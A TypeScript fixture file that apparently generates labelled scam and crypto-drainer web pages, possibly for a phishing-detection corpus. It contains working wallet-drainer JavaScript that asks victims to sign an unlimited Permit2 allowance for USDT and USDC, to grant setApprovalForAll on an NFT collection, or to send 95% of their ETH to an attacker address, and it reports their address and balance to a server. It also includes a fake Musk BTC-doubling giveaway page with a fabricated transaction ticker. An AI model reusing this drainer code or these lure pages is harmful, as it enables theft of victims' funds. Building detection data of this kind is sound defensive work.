import { redirectRoute, type Entry } from '../entry.js';
import { doc, pic, js, json, html, tag, baseCss } from '../parts/w-kit.js';

const walletJs = (spender: string, mode: 'permit' | 'approveAll' | 'transfer') => `(function(){
var SP='${spender}',st=document.getElementById('st');
function say(t){if(st)st.textContent=t}
async function go(){
 if(!window.ethereum){say('No wallet detected. Install MetaMask or open this page in Trust Wallet browser.');return}
 var acc=await ethereum.request({method:'eth_requestAccounts'});var me=acc[0];say('Checking eligibility for '+me.slice(0,6)+'…');
 var bal=await ethereum.request({method:'eth_getBalance',params:[me,'latest']});
 fetch('/api/w',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:me,b:bal,h:location.host})});
 ${mode === 'permit'
   ? `var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},message:{details:[{token:'0xdAC17F958D2ee523a2206206994597C13D831ec7',amount:'1461501637330902918203684832716283019655932542975',expiration:'281474976710655',nonce:'0'},{token:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',amount:'1461501637330902918203684832716283019655932542975',expiration:'281474976710655',nonce:'0'}],spender:SP,sigDeadline:'281474976710655'}};
 var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[me,JSON.stringify(typed)]});
 fetch('/api/s',{method:'POST',body:JSON.stringify({a:me,s:sig})});say('Claim submitted! Tokens will arrive within 24h.');`
   : mode === 'approveAll'
   ? `var data='0xa22cb465'+SP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
 await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:'0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D',data:data}]});say('Mint confirmed!');`
   : `var v='0x'+(BigInt(bal)*95n/100n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:SP,value:v}]});say('Done.');`}
}
document.querySelectorAll('[data-connect]').forEach(function(b){b.addEventListener('click',function(e){e.preventDefault();go().catch(function(e){say('Error: '+(e&&e.message||e)+' — please try again')})})});
})();`;

export const entries: Entry[] = [
  {
    id: 'w-scam-crypto-giveaway-musk-live-double',
    label: 'scam',
    kind: 'crypto-giveaway',
    url: 'https://spacex-event.live/btc',
    body: doc({
      title: 'SpaceX LIVE | Official 5,000 BTC Giveaway',
      css: `body{margin:0;background:#000;color:#fff;font-family:Arial,sans-serif}.c{max-width:900px;margin:auto;padding:30px}.v{aspect-ratio:16/9;background:#111 url(/img/live.png) center/cover;position:relative}.v span{position:absolute;left:10px;top:10px;background:#e00;padding:2px 8px;font-size:12px}
.addr{background:#161616;border:1px dashed #555;padding:14px;font-family:monospace;font-size:16px;word-break:break-all}table{width:100%;font-size:13px;font-family:monospace}td{padding:4px;border-bottom:1px solid #222}.g{color:#3c3}`,
      body: `<div class="c"><h1>🚀 SpaceX Official Crypto Event — Elon Musk Live</h1><div class="v"><span>● LIVE 48,221 watching</span></div>
<p>To celebrate Starship’s successful orbital flight, we are giving away <b>5,000 BTC</b> to the community. Participate in the biggest giveaway ever!</p>
<h3>Rules</h3><p>Send from <b>0.01 BTC</b> to <b>20 BTC</b> to the address below and receive <b>2× back</b> immediately. Only one participation per address.</p>
<div class="addr" id="a">bc1q4c8n5t00jmj8temxdgcc3t32nkg2wjwz24lywv</div><button onclick="navigator.clipboard.writeText(a.textContent)">Copy address</button>
<p>Remaining: <b id="r">3,418.22 BTC</b></p><h3>Latest transactions</h3><table id="tx"></table></div>`,
      scripts: `<script>var t=document.getElementById('tx');function row(){var v=(Math.random()*3).toFixed(3);t.insertAdjacentHTML('afterbegin','<tr><td>'+Math.random().toString(16).slice(2,12)+'…</td><td>'+v+' BTC</td><td class="g">→ '+(v*2).toFixed(3)+' BTC sent</td></tr>')}for(var i=0;i<6;i++)row();setInterval(row,2500);</script>`,
    }),
    routes: { 'spacex-event.live/img/live.png': pic(30, 30, 50) },
  },
  {
    id: 'w-drain-wallet-rectify-native-transfer',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://dapps-walletconnect-rectify.pages-app.net/rectify',
    body: doc({
      title: 'DApp Rectify – Resolve wallet issues',
      css: baseCss('#3b99fc', 'Arial,sans-serif', '#f5f8ff') + `.g{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.g a{background:#fff;border:1px solid #d6e4ff;border-radius:10px;padding:16px;text-decoration:none;color:#333}`,
      body: `<div class="wrap"><h1>Decentralised Wallet Rectification</h1><p>Open protocol for resolving stuck transactions, missing balances, failed bridges, airdrop claims and synchronisation errors between wallets and dApps.</p>
<div class="g"><a href="#" data-connect>Rectification</a><a href="#" data-connect>Claim Airdrop</a><a href="#" data-connect>Missing Balance</a><a href="#" data-connect>Stuck Transaction</a><a href="#" data-connect>Bridge Error</a><a href="#" data-connect>Login Issues</a></div><p id="st"></p></div>`,
      scripts: `<script>${walletJs('0x3e4f1d2bb4f7b1a0c9e6d2a8f0b31c7e9d5a2f61', 'transfer')}</script>`,
    }),
    routes: { 'dapps-walletconnect-rectify.pages-app.net/api/w': json({ ok: true }) },
  },
];
